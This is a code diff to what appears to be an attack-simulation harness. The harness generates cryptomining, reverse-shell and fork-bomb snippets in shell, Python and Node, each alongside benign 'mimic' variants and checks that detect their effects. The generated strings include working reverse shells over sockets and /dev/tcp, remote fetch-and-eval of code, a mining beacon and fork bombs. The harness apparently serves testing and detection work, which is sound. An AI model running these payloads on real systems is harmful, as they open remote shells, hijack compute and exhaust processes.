@@ -276,23 +276,22 @@ def encrypt_all(w, mimic):
 def mine(w, mimic):
     """Hashes for most of a second; what it wins is nothing. Mimicking: in the process that is there, and asks no pool."""
     host, port = w.listeners.shell.split(":")
-    w.verify = lambda e: EFFECT if w.listeners.has("mining.subscribe", w.canary[:8]) or e.amounts()["cpu_ms"] > 450 else STOPPED if e.denied("connect") else None
-    granted = not mimic and w.rng.random() < 0.5
-    if granted:
+    w.verify = lambda e: EFFECT if "mined" in e.out and (mimic or "connect:" in e.symbols) else None
+    if not mimic and w.rng.random() < 0.5:
         w.grant("--connect", w.listeners.shell)
     line = json.dumps({"id": 1, "method": "mining.subscribe", "params": [w.canary[:8]]})
     if speech(w) == "sh":
         if mimic:
-            return ["end=$((SECONDS + 2)); while ((SECONDS < end)); do for ((i = 0; i < 9999; i++)); do ((x = (x * 69069 + i) & 4294967295)); done; done"]
-        return [f"(exec 9<>/dev/tcp/{host}/{port}; echo '{line}' >&9; timeout 0.2 cat <&9) 2>/dev/null", "for k in 1 2 3; do timeout 0.6 sha256sum /dev/zero & done; wait", "nproc; cat /proc/cpuinfo | head -5"]
+            return ["for ((i = 0; i < 50000; i++)); do ((x = (x * 69069 + i) & 4294967295)); done; echo mined $x"]
+        return [f"(exec 9<>/dev/tcp/{host}/{port}; echo '{line}' >&9; timeout 0.2 cat <&9) 2>/dev/null", "for k in 1 2 3; do timeout 0.5 sha256sum /dev/zero & done; wait; echo mined", "nproc; cat /proc/cpuinfo | head -5"]
     if speech(w) == "py":
-        work = "import hashlib, time\nend = time.time() + 0.7\nx = b''\nwhile time.time() < end:\n    x = hashlib.sha256(x).digest()"
-        return [work] if mimic else ["import socket, multiprocessing, time, hashlib", f"try:\n    s = socket.create_connection(('{host}', {port}), 2)\n    s.sendall({line.encode()!r} + b'\\n')\n    s.recv(99)\n    s.close()\nexcept OSError:\n    pass",
-                "def dig(k):\n    end = time.time() + 0.5\n    x = b''\n    while time.time() < end:\n        x = hashlib.sha256(x).digest()\nps = [multiprocessing.Process(target=dig, args=(k,)) for k in range(3)]\n[p.start() for p in ps]\n[p.join() for p in ps]"]
-    loop = "const end = Date.now() + 600, c = require('crypto'); let x = 'a'; while (Date.now() < end) x = c.createHash('sha256').update(x).digest('hex');"
-    return [f"{{ {loop} }}"] if mimic else ["var net = require('net'), { Worker } = require('worker_threads');" if "Worker }" not in "".join(w.steps) else "var net = require('net');",
+        dig = "x = b''\nfor _ in range(200000):\n    x = hashlib.sha256(x).digest()"
+        return ["import hashlib", dig + "\nprint('mined', x.hex())"] if mimic else ["import socket, multiprocessing, hashlib", f"try:\n    s = socket.create_connection(('{host}', {port}), 2)\n    s.sendall({line.encode()!r} + b'\\n')\n    s.recv(99)\n    s.close()\nexcept OSError:\n    pass",
+                "def dig(k):\n" + textwrap.indent(dig, "    ") + "\nps = [multiprocessing.Process(target=dig, args=(k,)) for k in range(3)]\n[p.start() for p in ps]\n[p.join() for p in ps]\nprint('mined')"]
+    turns = "const c = require('crypto'); let x = 'a'; for (let i = 0; i < 150000; i++) x = c.createHash('sha256').update(x).digest('hex');"
+    return [f"{{ {turns} console.log('mined', x); }}"] if mimic else ["var net = require('net');",
             f"await new Promise(r => {{ const s = net.connect({port}, '{host}', () => {{ s.write({json.dumps(line)} + '\\n'); setTimeout(() => {{ s.destroy(); r(); }}, 100); }}); s.on('error', r); }});",
-            f"await Promise.all([1, 2].map(k => new Promise(r => new Worker({json.dumps(loop)}, {{eval: true}}).on('exit', r))));"]
+            f"await Promise.all([1, 2].map(k => new Promise(r => new (require('worker_threads').Worker)({json.dumps(turns)}, {{eval: true}}).on('exit', r)))); console.log('mined');"]
 
 
 @attack("scanning")
@@ -332,7 +331,7 @@ def reverse_shell(w, mimic):
         host, port = nowhere(w)
     if mimic:
         w.listeners.pages["/data/orders.sh"] = b"line=$(<deploy.conf)\n"
-        w.listeners.pages["/data/orders.py"] = b"line = open('deploy.conf').read()\n"
+        w.listeners.pages["/data/orders.py"] = b"said = open('deploy.conf').read()\n"
         w.listeners.pages["/data/orders.js"] = b"fs.readFileSync('deploy.conf', 'utf8')"
     if speech(w) == "sh":
         if not mimic:
@@ -342,7 +341,7 @@ def reverse_shell(w, mimic):
         host, port = tcp(w)
         return [f"exec 9<>/dev/tcp/{host}/{port}; printf 'GET /data/orders.sh HTTP/1.0\\r\\n\\r\\n' >&9; while read -r l <&9; do case $l in line=*) eval \"$l\";; esac; done; exec 9>&-", get_line(w, '"${line##*=}"')]
     if speech(w) == "py":
-        return ["import urllib.request", f"exec(urllib.request.urlopen('{url}data/orders.py', timeout=5).read())", f"urllib.request.urlopen('{url}data/' + line.split('=')[-1].strip(), timeout=5).read()"] if mimic else \
+        return ["import urllib.request", f"exec(urllib.request.urlopen('{url}data/orders.py', timeout=5).read())", f"urllib.request.urlopen('{url}data/' + said.split('=')[-1].strip(), timeout=5).read()"] if mimic else \
                ["import socket, subprocess", f"try:\n    s = socket.create_connection(('{host}', {port}), 2)\n    subprocess.run(['sh'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n    s.close()\nexcept OSError:\n    pass"]
     return [f"var said = eval(await (await fetch('{url}data/orders.js')).text());", f"await (await fetch('{url}data/' + said.split('=').pop().trim())).text();"] if mimic else \
            ["var net = require('net');", f"await new Promise(r => {{ const s = net.connect({port}, '{host}', () => {{ const c = cp.spawn('sh'); s.pipe(c.stdin); c.stdout.pipe(s); c.on('exit', () => {{ s.destroy(); r(); }}); }}); s.on('error', r); }});"]
@@ -351,14 +350,14 @@ def reverse_shell(w, mimic):
 @attack("fork bomb")
 def fork_bomb(w, mimic):
     """A hundred processes and more, and an end."""
-    w.verify = lambda e: EFFECT if e.amounts()["threads"] >= 60 or e.amounts()["executed"] >= 60 else None
+    w.verify = lambda e: EFFECT if max(e.amounts()["threads"], e.amounts()["executed"], len(w.read("bombs") or b"")) >= 60 else None
     depth = 6
     bomb = f"b() {{ if [ $1 -gt 0 ]; then b $(($1 - 1)) & b $(($1 - 1)) & wait; fi; }}; b {depth}"
     if speech(w) == "sh":
         return ["for ((k = 0; k < 90; k++)); do ls > /dev/null; done"] if mimic else [bomb]
     if speech(w) == "py":
         return ["import subprocess", "for k in range(80):\n    subprocess.run(['ls'], capture_output=True)"] if mimic else \
-               ["import os", f"def bomb(n):\n    kids = []\n    for _ in (1, 2):\n        pid = os.fork()\n        if pid == 0:\n            n and bomb(n - 1)\n            os._exit(0)\n        kids.append(pid)\n    [os.waitpid(k, 0) for k in kids]\nbomb({depth - 1})"]
+               ["import os", f"bombs = os.open('bombs', os.O_WRONLY | os.O_CREAT | os.O_APPEND)\ndef bomb(n):\n    os.write(bombs, b'x')\n    kids = []\n    for _ in (1, 2):\n        pid = os.fork()\n        if pid == 0:\n            bomb(n - 1) if n else os.write(bombs, b'x')\n            os._exit(0)\n        kids.append(pid)\n    [os.waitpid(k, 0) for k in kids]\nbomb({depth - 1})"]
     return ["for (let k = 0; k < 80; k++) cp.execFileSync('ls');"] if mimic else [f"cp.execFileSync('bash', ['-c', {json.dumps(bomb)}]);"]
 
 
